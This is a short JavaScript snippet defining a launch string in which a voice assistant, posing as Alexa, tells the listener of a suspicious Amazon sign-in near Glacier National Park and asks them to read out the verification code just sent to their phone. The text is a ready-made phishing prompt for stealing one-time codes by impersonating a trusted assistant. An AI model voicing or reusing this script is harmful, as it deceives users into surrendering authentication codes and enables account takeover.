// launch
const LOCK = 'Alexa here. We detected a sign-in to your Amazon account from a public Wi-Fi network near Glacier National Park. ' +
  'To keep your account safe we sent a verification code to your phone. Please read me the code now.';
